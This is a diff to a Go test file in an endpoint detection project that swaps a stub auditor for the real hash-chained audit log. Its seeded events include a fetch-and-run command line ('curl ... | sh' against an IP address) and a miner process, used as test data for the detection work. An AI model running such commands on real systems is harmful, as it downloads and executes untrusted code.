@@ -15,6 +15,7 @@ import (
 	"time"
 
 	"github.com/vigil-edr/vigil/internal/alert"
+	"github.com/vigil-edr/vigil/internal/audit"
 	"github.com/vigil-edr/vigil/internal/cases"
 	"github.com/vigil-edr/vigil/internal/event"
 	"github.com/vigil-edr/vigil/internal/eventstore"
@@ -22,30 +23,37 @@ import (
 	"github.com/vigil-edr/vigil/internal/store/sqlite"
 )
 
-// auditLog collects what the service hands its Auditor. It stands in for
-// the hash-chained audit log (built separately) only to observe the calls.
+// auditLog is the real hash-chained audit log over the test database,
+// with a switch to make appends fail.
 type auditLog struct {
+	log  *audit.Log
+	db   *sqlite.DB
 	mu   sync.Mutex
-	recs []cases.AuditRecord
 	fail error
 }
 
-func (l *auditLog) Audit(_ context.Context, r cases.AuditRecord) error {
+func (l *auditLog) Record(ctx context.Context, e audit.Entry) error {
 	l.mu.Lock()
-	defer l.mu.Unlock()
-	if l.fail != nil {
-		return l.fail
+	fail := l.fail
+	l.mu.Unlock()
+	if fail != nil {
+		return fail
 	}
-	l.recs = append(l.recs, r)
-	return nil
+	return l.log.Record(ctx, e)
+}
+
+func (l *auditLog) entries() []audit.Entry {
+	es, err := l.db.AuditEntries(context.Background(), 0, 10000)
+	if err != nil {
+		panic(err)
+	}
+	return es
 }
 
 func (l *auditLog) actions() []string {
-	l.mu.Lock()
-	defer l.mu.Unlock()
 	var out []string
-	for _, r := range l.recs {
-		out = append(out, r.Action)
+	for _, e := range l.entries() {
+		out = append(out, e.Action)
 	}
 	return out
 }
@@ -81,7 +89,7 @@ func newEnvAt(t *testing.T, base time.Time, opts ...func(*cases.Options)) *env {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { db.Close() })
-	e := &env{t: t, db: db, audit: &auditLog{}, now: base, base: base}
+	e := &env{t: t, db: db, audit: &auditLog{log: audit.New(db, nil), db: db}, now: base, base: base}
 	e.events = e.insertEvents(
 		[]event.Field{{Name: "Image", Value: "/usr/bin/curl"}, {Name: "CommandLine", Value: "curl -s http://203.0.113.7/x | sh"}, {Name: "User", Value: "www-data"}},
 		[]event.Field{{Name: "Image", Value: "/tmp/x"}, {Name: "CommandLine", Value: "/tmp/x --miner"}, {Name: "User", Value: "www-data"}},
